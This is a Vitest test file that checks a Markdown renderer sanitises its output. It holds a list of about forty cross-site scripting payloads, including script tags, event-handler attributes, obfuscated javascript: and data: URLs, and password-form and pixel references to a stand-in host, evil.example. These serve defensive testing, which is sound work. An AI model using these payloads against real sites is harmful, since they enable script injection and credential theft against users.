// @vitest-environment jsdom
import { expect, test } from 'vitest'
import { rendered } from './markdown'

function html(text: string): string {
  const home = document.createElement('div')
  home.append(rendered(text))
  return home.innerHTML.trim()
}

function elements(text: string): Element[] {
  const home = document.createElement('div')
  home.append(rendered(text))
  return [...home.querySelectorAll('*')]
}

const HOSTILE = [
  '<script>alert(1)</script>',
  '<img src=x onerror=alert(1)>',
  '<svg onload=alert(1)><script>alert(1)</script></svg>',
  '<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>',
  '<math><mi xlink:href="data:text/html,<script>alert(1)</script>">x</mi></math>',
  '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
  '<a href="https://example.com" onclick="alert(1)">x</a>',
  '<style>@import "https://evil.example/"</style>',
  '<form action="https://evil.example/"><input name=password></form>',
  '<base href="https://evil.example/">',
  '<meta http-equiv="refresh" content="0; url=https://evil.example/">',
  '[x](javascript:alert(1))',
  '[x](JaVaScRiPt:alert(1))',
  '[x](java\tscript:alert(1))',
  '[x](&#106;avascript:alert(1))',
  '[x](\u0001javascript:alert(1))',
  '[x](<javascript:alert(1)>)',
  '[x](vbscript:msgbox(1))',
  '[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)',
  '[x](file:///etc/passwd)',
  '[x](blob:https://example.com/1)',
  '[x](//evil.example/)',
  '[x](/api/v1/logout)',
  '[x](#/users)',
  '[x][1]\n\n[1]: javascript:alert(1)',
  '<javascript:alert(1)>',
  '<data:text/html,1>',
  '![x](https://evil.example/pixel.png)',
  '![x](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+)',
  '![x](x"onerror="alert(1))',
  '[x](https://example.com "onmouseover=alert(1)")',
  '[x](https://example.com/"onmouseover="alert(1))',
  '`<script>alert(1)</script>`',
  '```"><script>alert(1)</script>\nx\n```',
  '```js" onload="alert(1)\nx\n```',
  '# <img src=x onerror=alert(1)>',
  '| <svg onload=alert(1)> |\n| --- |\n| [x](javascript:alert(1)) |',
  '<!-- --><script>alert(1)</script>',
  '<div\n  onmouseover="alert(1)">x</div>',
]
const ALLOWED: Record<string, string[]> = {
  A: ['href', 'target', 'rel'],
  OL: ['start'],
  PRE: ['tabindex'],
  TABLE: ['tabindex'],
}
const KNOWN = /^(?:P|H[3-6]|UL|OL|LI|BLOCKQUOTE|PRE|CODE|HR|BR|EM|STRONG|S|A|TABLE|THEAD|TBODY|TR|TH|TD)$/

test.each(HOSTILE)('nothing runs, nothing is loaded: %s', (text) => {
  for (const element of elements(text)) {
    expect(element.tagName).toMatch(KNOWN)
    for (const { name } of element.attributes) expect(ALLOWED[element.tagName] ?? []).toContain(name)
    const href = element.getAttribute('href')
    if (href !== null) expect(href).toMatch(/^(?:https?:\/\/(?!evil\.example\/"?on)|mailto:)/)
  }
})

test('what is no link is shown as it was typed', () => {
  expect(html('[x](javascript:alert(1))')).toBe('<p>[x](javascript:alert(1))</p>')
  expect(html('<script>alert(1)</script>')).toBe('<p>&lt;script&gt;alert(1)&lt;/script&gt;</p>')
})

test.each([
  ['[site](https://example.com/a?b=c#d)', 'https://example.com/a?b=c#d'],
  ['<http://example.com/>', 'http://example.com/'],
  ['<mailto:team@example.com>', 'mailto:team@example.com'],
  ['<team@example.com>', 'mailto:team@example.com'],
])('%s is a link that opens elsewhere', (text, href) => {
  const [, link] = elements(text)
  expect(link?.getAttribute('href')).toBe(href)
  expect(link?.getAttribute('target')).toBe('_blank')
  expect(link?.getAttribute('rel')).toBe('noopener noreferrer nofollow')
})

test('the rest is Markdown, below the headings of the page', () => {
  expect(html('# One\n\n*Two* **three** `four`')).toBe(
    '<h3>One</h3>\n<p><em>Two</em> <strong>three</strong> <code>four</code></p>',
  )
  expect(html('3. a\n4. b')).toContain('<ol start="3">')
  expect(html('| a |\n| --- |\n| b |')).toContain('<td>b</td>')
})
